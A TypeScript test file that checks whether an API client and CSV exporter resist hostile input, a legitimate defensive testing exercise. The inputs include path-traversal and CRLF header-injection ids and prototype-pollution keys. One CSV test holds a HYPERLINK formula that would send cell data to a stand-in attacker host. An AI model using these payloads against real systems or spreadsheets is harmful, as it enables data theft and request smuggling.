import { test } from 'uvu'
import * as assert from 'uvu/assert'
import { toCsv } from '../../support/toCsv.ts'
import { dateOf } from '../../../src/lib/format.ts'
import { list, lookup, one, post, put, remove } from '../../../src/lib/calls.ts'
import { messagesOf } from '../../../src/lib/messages.ts'
import { nonceOf } from '../../../src/lib/jwt.ts'
import { email, numberOf, wholeNumber } from '../../../src/lib/rules.ts'
import { searchFor } from '../../../src/lib/search.ts'
import { needed, object, rowId, text, unknown } from '../../../src/lib/shape.ts'
import { anyObject, failureOf, hangUp, talk } from './talk.ts'

test.after(hangUp)

const vendor = one<{ id: unknown }, object>('/vendor/{id}/', anyObject)
const removal = remove<{ id: unknown }>('/vendor/{id}/')
const vendorsOf = list<{ id: unknown }, object>('/vendors/', anyObject)
const change = put<{ id: unknown; name: string }>('/vendor/{id}/')

// ---- ids ----

test('H01 an id of any characters stays one part of the path, and leads to no other endpoint', async () => {
  const ids = [
    ...'?x=1 # ../../admin ..%2fadmin %2f % 1/../2 1;x @evil.example //evil 日本'.split(' '),
    '\\..\\2',
    '1\r\nHost: x',
    7,
    ' ',
    '\0',
  ]
  for (const id of ids) {
    const { seen } = talk({ body: '{}' })
    await vendor({ id })
    assert.is(seen[0]?.url, `/api/v1/vendor/${encodeURIComponent(id)}/`, String(id))
  }
})

test('H02 an id that is named like a part of every object, or like a placeholder, is an id like any other', async () => {
  for (const id of ['constructor', '__proto__', 'toString', '{id}', '{name}', '$&', '$1', 'undefined', 'null', 'NaN']) {
    const { seen } = talk()
    await change({ id, name: 'x' })
    assert.is(seen[0]?.url, `/api/v1/vendor/${encodeURIComponent(id)}/`, id)
    assert.is(seen[0]?.body, '{"name":"x"}')
  }
})

test('H03 an id of 100,000 characters is sent whole, or fails, and throws nothing else', async () => {
  talk()
  const outcome = await removal({ id: '9'.repeat(100_000) }).catch(error => error)
  assert.ok(outcome === undefined || outcome.code !== undefined, String(outcome))
})

test('H04 refuses an id with half of a surrogate pair, which no address can hold', async () => {
  for (const call of [vendor, removal, vendorsOf]) {
    const heard = talk()
    assert.is((await failureOf(call({ id: 'a\ud800' }))).code, 'UNSENT')
    assert.equal([heard.seen, heard.failures.length], [[], 1])
  }
})

for (const [what, input] of Object.entries({ 'an empty text': { id: '' }, absent: { id: undefined }, null: { id: null } })) {
  test(`H05 if the id is ${what}, nothing is sent`, async () => {
    const heard = talk()
    for (const send of [removal, vendorsOf, change]) {
      // In a query, an absent value means all.
      if (send === vendorsOf && 'id' in input && input.id === undefined) continue
      const error = await failureOf(send({ name: 'x', ...input } as { id: unknown; name: string }))
      assert.equal([error.code, error.trace?.path.includes('vendor'), heard.seen], ['UNSENT', true, []])
    }
    assert.is(
      heard.failures.every(({ code }) => code === 'UNSENT'),
      true,
    )
  })
}

test('H05 refuses an empty id in a body, and sends empty texts', async () => {
  const heard = talk()
  for (const key of ['vendor', 'vendor_group', 'user', 'role', 'member_type', 'idProviderUserId']) {
    for (const id of ['', null]) assert.is((await failureOf(post<object>('/vendorUser/')({ [key]: id }))).code, 'UNSENT', key)
  }
  assert.equal(heard.seen, [])
  await post<object>('/application/')({ vendor_group: 0, name: '', description: '' })
  assert.is(heard.seen[0]?.body, '{"vendor_group":0,"name":"","description":""}')
})

const sendings: Readonly<Record<string, (id: unknown) => Promise<unknown>>> = {
  path: id => removal({ id }),
  query: id => vendorsOf({ id }),
  body: id => post<object>('/vendorUser/')({ vendor: 1, user: id }),
}

for (const [place, send] of Object.entries(sendings)) {
  test(`H06 refuses a number in the ${place} that may stand for another`, async () => {
    const heard = talk({ body: '[]' })
    for (const id of [2 ** 53, -(2 ** 53), 1e22, Infinity, NaN]) assert.is((await failureOf(send(id))).code, 'UNSENT', String(id))
    assert.equal(heard.seen, [])
    for (const id of [2 ** 53 - 1, -1, 0, '9007199254740993']) await send(id)
    assert.is(heard.seen.length, 4)
  })
}

test('H06 reads an id that is no exact number as a missing one, if the engine does not give its source', async () => {
  talk({ body: '[{"id": 9007199254740993, "name": 9007199254740993}, {"id": 9007199254740991}, {"id": -9007199254740993}]' })
  const rows = await list<object, { id: unknown }>('/vendors/', object<any>({ id: rowId, name: text }))({})
  assert.equal(rows, [{ id: '', name: undefined }, { id: 2 ** 53 - 1 }, { id: '' }])
})

// ---- answers ----

test('H07 rows that try to change what all objects inherit change nothing', async () => {
  talk({ body: '[{"__proto__": {"polluted": 1}, "constructor": {"prototype": {"polluted": 1}}, "id": 1, "toString": null}]' })
  const rows = await list<object, { id: number }>('/vendors/', anyObject)({})
  assert.is(rows[0]?.id, 1)
  assert.is(({} as { polluted?: unknown }).polluted, undefined)
  talk({ body: '{"__proto__": {"id": 1}}' })
  const error = await failureOf(post('/vendor/', object<any>({ id: needed(unknown) }))({}).then(({ id }) => assert.is(id, 1)))
  assert.is(error.code, 'FORMAT')
})

test('H08 an error that comes with status 200 is no list, no account and nothing that was made', async () => {
  const body = '{"errors": ["システムエラー"], "code": 500}'
  const calls = [
    list('/vendors/', anyObject),
    one('/vendor/', object<any>({ name: needed(unknown) })),
    post('/vendorGroup/', object<any>({ id: needed(unknown) })),
  ]
  for (const call of calls) {
    talk({ body })
    assert.is((await failureOf(call({}))).code, 'FORMAT')
  }
  talk({ body: '"error"' })
  assert.is((await failureOf(lookup('/idProviderUser/', anyObject)({}))).code, 'FORMAT')
})

test('H09 a byte order mark before the JSON is no obstacle, another encoding is a failed load', async () => {
  talk({ body: '\ufeff[{"id":1}]' })
  assert.equal(await list('/vendors/', anyObject)({}), [{ id: 1 }])
  talk({ body: Buffer.from('[{"id":1}]', 'utf16le') })
  assert.is((await failureOf(list('/vendors/', anyObject)({}))).code, 'FORMAT')
})

test('H10 JSON of 10,000 levels is read or fails, and throws nothing else', async () => {
  const deep = `${'['.repeat(10_000)}${']'.repeat(10_000)}`
  talk({ body: deep })
  assert.is((await failureOf(list('/vendors/', anyObject)({}))).code, 'FORMAT')
  talk({ status: 400, body: deep })
  assert.is((await failureOf(list('/vendors/', anyObject)({}))).code, 400)
})

test('H11 the words of an error are found below 10,000 levels, or given up, without an error of the program', () => {
  for (const [open, close] of [
    ['[', ']'],
    ['{"a":', '}'],
  ] as const) {
    const body: unknown = JSON.parse(`${open.repeat(10_000)}"深い"${close.repeat(10_000)}`)
    let lines: string[] | undefined
    try {
      lines = messagesOf(body)
    } catch (error) {
      assert.unreachable(String(error))
    }
    assert.ok(lines?.length === 0 || lines?.[0] === '深い')
  }
})

test('H12 of an error with 10,000 lines none is lost, in linear time', () => {
  const started = performance.now()
  const body = { a: Array.from({ length: 5_000 }, (_, n) => `行${n}`), b: `${'\r\n行'.repeat(5_000)}`, c: ['\n'.repeat(1_000_000)] }
  assert.is(messagesOf(body).length, 10_000)
  assert.ok(performance.now() - started < 2_000)
})

// ---- values ----

test('H13 a date that no calendar has is shown as it came, an epoch or an absurd instant is none', () => {
  for (const [value, shown] of [
    ['9999-99-99', '9999-99-99'],
    ['0000-00-00', '0000-00-00'],
    [1_790_000_000, undefined],
    [0, undefined],
    ['1790000000', undefined],
    ['+275760-09-13', undefined],
    ['2027-03-31T99:99:99Z', undefined],
    ['2027-03-31<script>', undefined],
    [['2027-03-31'], undefined],
    ['2027-03-31\n', undefined],
    [{ toString: () => '2027-03-31' }, undefined],
    ['２０２７-03-31', undefined],
  ] as const)
    assert.is(dateOf(value), shown, String(value))
})

test('H14 an address with something invisible in it is refused', () => {
  const rule = email('x')
  const hidden = ['\u200b', '\u200d', '\u202e', '\ufeff', '\0', '\n', '\r\n', '\u00ad', '\ud800', '\t']
  for (const character of hidden) {
    for (const address of [`a${character}@b.jp`, `${character}a@b.jp`, `a@b.jp${character}`, `a@b${character}.jp`]) {
      assert.is(rule(address), 'x', JSON.stringify(address))
    }
  }
})

test('H15 a number is written in digits alone, however large it is made to look', () => {
  const rule = wholeNumber(60, 31_536_000, 'x')
  for (const text of ['6e1', '0x3c', '+60', '-60', '60.0', '1_000', '九九', '６０。', '9'.repeat(400), 'Infinity', '60\0', '１,０００']) {
    assert.is(rule(text), 'x', text)
  }
  // Only characters that normalize to digits count as digits.
  assert.equal(['６０', '⑥⓪', '𝟨𝟢'].map(numberOf), [60, 60, 60])
})

test('H16 a search finds nothing by accident: patterns, halves of characters and what expands are plain text', () => {
  for (const wanted of ['.*', '[', '(?=', '\\', '$', '^', '\ud83c', '%', '__proto__']) {
    assert.is(searchFor(wanted)('農園'), false, wanted)
    assert.is(searchFor(wanted)(`農${wanted}園`), true, wanted)
  }
  const started = performance.now()
  // One character that normalizes to eighteen.
  assert.is(searchFor('無い')('\ufdfa'.repeat(300_000)), false)
  assert.ok(performance.now() - started < 5_000)
})

test('H17 an id token of a megabyte, or with its nonce twice, is read at once, and like every reader of JSON reads it', () => {
  const tokenOf = (claims: string) => `e.${Buffer.from(claims).toString('base64url')}.s`
  const started = performance.now()
  assert.is(nonceOf(tokenOf(JSON.stringify({ roles: 'x'.repeat(1_000_000), nonce: 'n' }))), 'n')
  assert.ok(performance.now() - started < 2_000)
  assert.is(nonceOf(tokenOf('{"nonce":"forged","nonce":"n"}')), 'n')
  assert.is(nonceOf(tokenOf('{"nonce":{"toString":"n"}}')), undefined)
})

// ---- files ----

const cell = (value: string) => toCsv([[value]]).slice(1, -2)

test('H18 a cell that begins with NUL or a line feed, behind which a spreadsheet may find a formula, is made a text', () => {
  for (const value of ['\0=1+1', '\n=1+1', '\r\n=1+1']) assert.match(cell(value), /^"?'/, JSON.stringify(value))
})

test('H19 a cell that begins with a full-width sign, which Japanese spreadsheets take for a half-width one, is made a text', () => {
  for (const value of ['＝1+1', '＋1', '－1', '＠SUM(A1)']) assert.is(cell(value), `'${value}`)
})

test('H20 H29 no value ends its cell or its row, and each formula in it is made a text', () => {
  const nasty = [
    '"',
    '=HYPERLINK("http://evil.example/?"&A1,"見る")\r\n@x',
    '=1+1',
    '""',
    '",="x"',
    'a"\r\n=1',
    '\r',
    '\n',
    ',',
    '",',
    '\u2028',
    'a\0b',
    '"\n"',
    '\ud800',
  ]
  const text = toCsv([nasty, nasty.toReversed()])
  assert.equal(
    parse(text.slice(1)).map(row => row.map(value => value.replace(/^'/, ''))),
    [nasty, nasty.toReversed()],
  )
})

/** Parses CSV (RFC 4180, section 2). */
function parse(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  for (const [, quoted, plain, end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g)) {
    row.push(quoted?.replaceAll('""', '"') ?? plain ?? '')
    if (end === '\r\n') {
      rows.push(row)
      row = []
    }
  }
  return rows
}

test.run()
